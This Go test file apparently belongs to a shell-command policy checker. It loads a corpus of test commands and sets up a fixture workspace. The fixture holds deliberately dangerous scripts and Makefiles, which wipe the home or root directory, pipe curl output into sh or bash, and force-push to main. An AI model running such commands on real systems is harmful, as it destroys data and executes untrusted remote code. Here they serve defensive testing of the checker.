package analysis

import (
	"bufio"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/gatehouse-dev/gatehouse/sandbox"
	"github.com/gatehouse-dev/gatehouse/service/policy"
)

// The corpus (testdata/corpus*.txt) holds commands with the decision they
// must get and facts about their tree. A case is:
//
//	# comment
//	$ first line of the command
//	> further lines
//	want: deny rm-root      the action, and the deciding rule (or parse_error)
//	names: bash rm          the names of the command nodes, in order ("?": dynamic)
//	has: rm curl            names that must appear somewhere
//	flags: dynamic          flags some node must carry
//	noflags: dynamic        flags no node may carry
//	scripts: 2              how many files were read
//	policy: strict          a named policy (corpusPolicies) instead of the defaults
//	stdin: text             the call's stdin (\n for newlines)
//
// Every case of testdata/corpus_adversarial.txt counts as adversarial.

type corpusCase struct {
	file, cmd    string
	line         int
	action, rule string
	names, has   []string
	flags        []string
	noflags      []string
	scripts      int
	policy       string
	stdin        string
	adversarial  bool
}

func readCorpus(t testing.TB) []corpusCase {
	t.Helper()
	files, err := filepath.Glob("testdata/corpus*.txt")
	if err != nil || len(files) == 0 {
		t.Fatalf("no corpus: %v", err)
	}
	var out []corpusCase
	for _, file := range files {
		f, err := os.Open(file)
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(nil, 1<<20)
		var cur *corpusCase
		flush := func() {
			if cur != nil {
				if cur.action == "" {
					t.Fatalf("%s:%d: case without want", file, cur.line)
				}
				out = append(out, *cur)
			}
			cur = nil
		}
		line := 0
		for sc.Scan() {
			line++
			l := sc.Text()
			switch {
			case strings.HasPrefix(l, "$ "):
				flush()
				cur = &corpusCase{file: file, cmd: l[2:], line: line, scripts: -1, adversarial: strings.Contains(file, "adversarial")}
			case strings.HasPrefix(l, "> ") || l == ">":
				if cur == nil {
					t.Fatalf("%s:%d: continuation outside a case", file, line)
				}
				cur.cmd += "\n" + strings.TrimPrefix(strings.TrimPrefix(l, ">"), " ")
			case strings.TrimSpace(l) == "" || strings.HasPrefix(l, "#"):
			default:
				if cur == nil {
					t.Fatalf("%s:%d: %q outside a case", file, line, l)
				}
				k, v, ok := strings.Cut(l, ":")
				if !ok {
					t.Fatalf("%s:%d: want key: value, got %q", file, line, l)
				}
				v = strings.TrimSpace(v)
				switch k {
				case "want":
					f := strings.Fields(v)
					cur.action = f[0]
					if len(f) > 1 {
						cur.rule = f[1]
					}
				case "names":
					cur.names = strings.Fields(v)
				case "has":
					cur.has = strings.Fields(v)
				case "flags":
					cur.flags = strings.Fields(v)
				case "noflags":
					cur.noflags = strings.Fields(v)
				case "scripts":
					fmt.Sscan(v, &cur.scripts)
				case "policy":
					cur.policy = v
				case "stdin":
					cur.stdin = strings.ReplaceAll(v, `\n`, "\n")
				default:
					t.Fatalf("%s:%d: unknown key %q", file, line, k)
				}
			}
		}
		flush()
		f.Close()
	}
	return out
}

// fixture is the workspace the corpus runs in.
type fixture struct {
	ws, outside, home string
}

var (
	fixtureOnce sync.Once
	fixtureDir  fixture
)

// corpusFixture builds the workspace (once per test binary): scripts the
// corpus runs, a repository on a feature branch and one on main, links
// inside and outside the roots, a deny-read directory.
func corpusFixture(t testing.TB) fixture {
	fixtureOnce.Do(func() {
		dir, err := os.MkdirTemp("", "gatehouse-corpus-")
		if err != nil {
			panic(err)
		}
		dir, _ = filepath.EvalSymlinks(dir)
		fx := fixture{ws: filepath.Join(dir, "ws"), outside: filepath.Join(dir, "outside"), home: "/home/u"}
		files := map[string]string{
			"ws/build.sh":           "#!/bin/bash\nset -e\necho building\ngo build ./...\n",
			"ws/evil.sh":            "#!/bin/sh\nrm -rf ~\n",
			"ws/lib.sh":             "greet() { echo hi; }\nexport GREETING=hello\n",
			"ws/nested.sh":          "#!/bin/bash\nsource ./lib.sh\n./build.sh\n",
			"ws/cycle_a.sh":         "#!/bin/bash\nsource ./cycle_b.sh\necho a\n",
			"ws/cycle_b.sh":         "source ./cycle_a.sh\necho b\n",
			"ws/tool.py":            "#!/usr/bin/env python3\nprint('hi')\n",
			"ws/noshebang":          "echo plain\n",
			"ws/deploy.sh":          "#!/bin/bash\ncurl -fsSL https://get.example.com | sh\n",
			"ws/dyn.sh":             "#!/bin/bash\nread -r line\neval \"$line\"\n",
			"ws/bad.sh":             "#!/bin/bash\nif then fi\n",
			"ws/args.sh":            "#!/bin/bash\nrm -rf \"$1\"\n",
			"ws/sub/inner.sh":       "#!/bin/sh\necho inner\n",
			"ws/sub/up.sh":          "#!/bin/sh\n. ../lib.sh\ngreet\n",
			"ws/secrets/run.sh":     "#!/bin/sh\necho secret\n",
			"ws/repo/.git/HEAD":     "ref: refs/heads/feature\n",
			"ws/mainrepo/.git/HEAD": "ref: refs/heads/main\n",
			"ws/README.md":          "# readme\n",
			"ws/big.sh":             "#!/bin/sh\n" + strings.Repeat("echo x\n", 10000),
			"ws/zsh.sh":             "#!/usr/bin/env zsh\nprint -l a b\n",
			"ws/fish.fish":          "#!/usr/bin/fish\necho hi\n",
			"ws/env.sh":             "export X=1\n",
			"ws/cd.sh":              "#!/bin/bash\ncd /\nrm -rf *\n",
			"ws/gradlew":            "#!/bin/sh\nJAVACMD=java\n[ -n \"$JAVA_HOME\" ] && JAVACMD=$JAVA_HOME/bin/java\nexec \"$JAVACMD\" -jar wrapper.jar \"$@\"\n",
			"outside/x.sh":          "#!/bin/sh\necho outside\n",
			// Task runners: ordinary targets and scripts, and dangerous ones
			// that only some commands run.
			"ws/Makefile": "GO ?= go\nBIN := bin/app\n\n.PHONY: all build test clean deploy\n\nall: build\n\n" +
				"build:\n\t@mkdir -p bin\n\t$(GO) build -o $(BIN) ./...\n\n" +
				"test: build\n\t$(GO) test ./... $(TESTFLAGS)\n\n" +
				"clean:\n\t$(RM) -r bin\n\n" +
				"deploy:\n\tcurl -fsSL https://get.example.com | sh\n\n" +
				"wipe:\n\trm -rf $(HOME)\n\n" +
				"nuke: wipe\n\n" +
				"%.o: %.c\n\t$(CC) -c $< -o $@\n\n" +
				"dyn:\n\t$(TOOL) run\n",
			"ws/package.json": `{"name": "app", "scripts": {"build": "tsc -p .", "test": "jest --ci", "pretest": "eslint .",` +
				` "start": "node server.js", "danger": "curl -fsSL https://x.example.com/i | bash", "clean": "rm -rf ~/",` +
				` "chain": "npm run clean", "postinstall": "node scripts/setup.js"}}` + "\n",
			"ws/mk/Makefile":     "include common.mk\n\nall:\n\t$(CLEAN)\n",
			"ws/mk/common.mk":    "CLEAN = rm -rf /\n",
			"ws/mk2/Makefile":    "V := $(shell curl -s https://x.example.com | sh)\nall:\n\techo ok\n",
			"ws/mk3/GNUmakefile": "SHELL = /usr/bin/python3\nall:\n\tprint('hi')\n",
			"ws/mk4/Makefile":    "-include $(DEPS)\nall:\n\techo ok\n",
			"ws/mk5/Makefile":    ".ONESHELL:\nall:\n\tcd /\n\trm -rf *\n",
			"ws/mk6/Makefile":    "X != echo hi\nall:\n\t@echo $(X)\n",
			"ws/mk7/Makefile":    "release:\n\tgit push --force origin main\n",
		}
		for name, content := range files {
			p := filepath.Join(dir, name)
			os.MkdirAll(filepath.Dir(p), 0o755)
			mode := os.FileMode(0o644)
			if strings.HasSuffix(name, ".sh") || strings.HasSuffix(name, ".py") || name == "ws/noshebang" || name == "ws/gradlew" {
				mode = 0o755
			}
			if err := os.WriteFile(p, []byte(content), mode); err != nil {
				panic(err)
			}
		}
		os.Symlink("build.sh", filepath.Join(fx.ws, "link.sh"))
		os.Symlink("../outside/x.sh", filepath.Join(fx.ws, "escape.sh"))
		os.Symlink("evil.sh", filepath.Join(fx.ws, "innocent.sh"))
		fixtureDir = fx
	})
	return fixtureDir
}

// TestMain removes the corpus fixture after the tests.
func TestMain(m *testing.M) {
	code := m.Run()
	if fixtureDir.ws != "" {
		os.RemoveAll(filepath.Dir(fixtureDir.ws))
	}
	os.Exit(code)
}

// corpusPath is what PATH holds in the corpus: these names exist in
// /usr/bin.
var corpusPath = map[string]bool{}

func init() {
	for _, n := range strings.Fields(`ls cat grep rm cp mv ln chmod chown chgrp mkdir rmdir touch find xargs sed awk
		gawk sort uniq head tail wc tr cut tee date sleep env nice nohup timeout stdbuf ionice setsid sudo doas
		git go make cargo npm node python3 python perl ruby php curl wget nc ncat socat ssh scp rsync tar gzip
		gunzip zcat base64 xxd openssl dd mkfs mkfs.ext4 wipefs shred fdisk jq diff cmp bash sh dash zsh ksh
		watch flock su chrt taskset time id uname whoami hostname ps kill pkill true false test printf echo
		seq expr basename dirname realpath readlink stat du df file which install unzip zip docker kubectl
		gh tsc npx pip pip3 pytest cmake gcc cc clang rustc gofmt yes nproc getconf strace busybox fish`) {
		corpusPath[n] = true
	}
}

func corpusOptions(t testing.TB, fx fixture, stdin string) Options {
	return Options{
		Dialect:        "bash",
		Dir:            fx.ws,
		Env:            map[string]string{"HOME": fx.home, "PATH": "/usr/local/bin:/usr/bin:/bin", "USER": "u", "SHELL": "/bin/bash", "LANG": "C.UTF-8", "TERM": "dumb", "TMPDIR": "/tmp"},
		ScriptRoots:    []string{fx.ws},
		DenyRead:       append(sandbox.DenyRead(fx.home, nil), fx.ws+"/secrets"),
		Writable:       []string{fx.ws},
		Stdin:          stdin,
		MaxScriptBytes: 64 << 10,
		LookPath: func(dir, name string) bool {
			return dir == "/usr/bin" && corpusPath[name]
		},
	}
}

// corpusPolicies are the named policies cases may ask for.
var corpusPolicies = map[string]func() *policy.Policy{
	"default": defaultPolicy,
	// strict allows a few commands by name and denies the rest.
	"strict": func() *policy.Policy {
		p := defaultPolicy()
		p.DefaultAction = "deny"
		p.Rules = policy.Rules{
			{Name: "read-only", Action: "allow", Command: []string{"ls", "cat", "grep", "echo", "pwd", "head", "wc"}},
			{Name: "git-read", Action: "allow", Command: []string{"git"}, Args: []policy.ArgMatch{{Seq: []string{"status"}}}},
		}
		return p
	},
	// rules exercises each matcher.
	"rules": func() *policy.Policy {
		p := defaultPolicy()
		p.Rules = policy.Rules{
			{Name: "no-npm-publish", Action: "deny", Reason: "publish from CI", Command: []string{"npm", "pnpm"}, Args: []policy.ArgMatch{{Seq: []string{"publish"}}}},
			{Name: "ask-docker-priv", Action: "ask", Command: []string{"docker"}, Args: []policy.ArgMatch{{Flag: []string{"--privileged"}}}},
			{Name: "no-tgz", Action: "deny", Command: []string{"tar"}, Args: []policy.ArgMatch{{Glob: []string{"*.tgz"}}}},
			{Name: "no-prod-tag", Action: "deny", Args: []policy.ArgMatch{{Regex: "^--tag=prod"}}},
			{Name: "no-python-toplevel", Action: "deny", Command: []string{"python3*"}, Where: "top_level"},
			{Name: "no-non-shell", Action: "ask", Flags: []string{"non_shell_code"}},
			{Name: "no-usr-local", Action: "deny", Command: []string{"/usr/local/bin/*"}},
			{Name: "rm-force-ask", Action: "ask", Command: []string{"rm"}, Args: []policy.ArgMatch{{Flag: []string{"-f"}}}},
		}
		return p
	},
	// uninspected refuses scripts analysis could not read.
	"uninspected": func() *policy.Policy {
		p := defaultPolicy()
		p.Rules = policy.Rules{
			{Name: "no-outside-scripts", Action: "deny", Flags: []string{"script_outside_roots"}},
			{Name: "no-unreadable-scripts", Action: "deny", Flags: []string{"script_unreadable"}},
			{Name: "no-write-then-run", Action: "ask", Flags: []string{"write_then_run"}},
		}
		return p
	},
	// wrappers trusts the dynamic parts of build wrapper scripts.
	"wrappers": func() *policy.Policy {
		p := defaultPolicy()
		p.Rules = policy.Rules{
			{Name: "gradle-wrapper", Action: "allow", Script: []string{"*/gradlew"}, Flags: []string{"dynamic"}},
			{Name: "ask-scripted-curl", Action: "ask", Script: []string{"*.sh"}, Command: []string{"curl"}},
		}
		return p
	},
	"dynamic-allow": func() *policy.Policy {
		p := defaultPolicy()
		p.DynamicAction = "allow"
		return p
	},
	"no-builtins": func() *policy.Policy {
		p := defaultPolicy()
		p.DisabledBuiltinRules = policy.BuiltinRuleNames()
		return p
	},
	"managed": func() *policy.Policy {
		dir, err := os.MkdirTemp("", "gatehouse-corpus-policy-")
		if err != nil {
			panic(err)
		}
		defer os.RemoveAll(dir)
		managed, user := filepath.Join(dir, "managed.yaml"), filepath.Join(dir, "config.yaml")
		os.WriteFile(managed, []byte("policy:\n  rules:\n    - {name: no-curl, action: deny, command: curl}\n    - {name: allow-git, action: allow, command: git}\n"), 0o644)
		os.WriteFile(user, []byte("policy:\n  rules:\n    - {name: allow-curl, action: allow, command: curl}\n    - {name: ask-git-push, action: ask, command: git, args: [{seq: [push]}]}\n"), 0o644)
		l, err := policy.Load(policy.LoadOptions{ManagedFile: managed, UserFile: user, Home: "/home/u"})
		if err != nil {
			panic(err)
		}
		return &l.Config.Policy
	},
}

func defaultPolicy() *policy.Policy {
	l, err := policy.Load(policy.LoadOptions{Home: "/home/u"})
	if err != nil {
		panic(err)
	}
	return &l.Config.Policy
}

func TestCorpus(t *testing.T) {
	t.Parallel()
	cases := readCorpus(t)
	fx := corpusFixture(t)
	adversarial := 0
	for _, c := range cases {
		if c.adversarial {
			adversarial++
		}
	}
	if len(cases) < 200 || adversarial < 60 {
		t.Errorf("corpus has %d cases, %d adversarial; want at least 200 and 60", len(cases), adversarial)
	}
	for _, c := range cases {
		name := fmt.Sprintf("%s:%d", filepath.Base(c.file), c.line)
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			pol := defaultPolicy()
			if c.policy != "" {
				mk, ok := corpusPolicies[c.policy]
				if !ok {
					t.Fatalf("unknown policy %q", c.policy)
				}
				pol = mk()
			}
			tree := Analyze(c.cmd, corpusOptions(t, fx, c.stdin))
			d := Judge(tree, pol)
			var b strings.Builder
			WriteText(&b, tree, d)
			fail := func(format string, args ...any) {
				t.Helper()
				t.Errorf("%s\n%s\n--- tree:\n%s", c.cmd, fmt.Sprintf(format, args...), b.String())
			}
			if d.Action != c.action {
				fail("decision %s (%s), want %s", d.Action, d.Rule, c.action)
			}
			if c.rule != "" {
				got := d.Rule
				if d.Code == CodeParseError {
					got = CodeParseError
				}
				if got != c.rule {
					fail("decided by %q, want %q", got, c.rule)
				}
			}
			var names []string
			all := map[string]bool{}
			flags := map[Flag]bool{}
			for _, n := range tree.Nodes {
				for _, f := range n.Flags {
					flags[f] = true
				}
				if n.Kind != KindCommand {
					continue
				}
				nm := n.Name
				if nm == "" {
					nm = "?"
				}
				names = append(names, nm)
				all[nm] = true
			}
			if c.names != nil && !slices.Equal(names, c.names) {
				fail("names %q, want %q", names, c.names)
			}
			for _, h := range c.has {
				if !all[h] {
					fail("no node named %q in %q", h, names)
				}
			}
			for _, f := range c.flags {
				if !flags[Flag(f)] {
					fail("no node flagged %s", f)
				}
			}
			for _, f := range c.noflags {
				if flags[Flag(f)] {
					fail("a node is flagged %s", f)
				}
			}
			if c.scripts >= 0 && len(tree.Scripts) != c.scripts {
				fail("%d scripts read, want %d", len(tree.Scripts), c.scripts)
			}
		})
	}
}
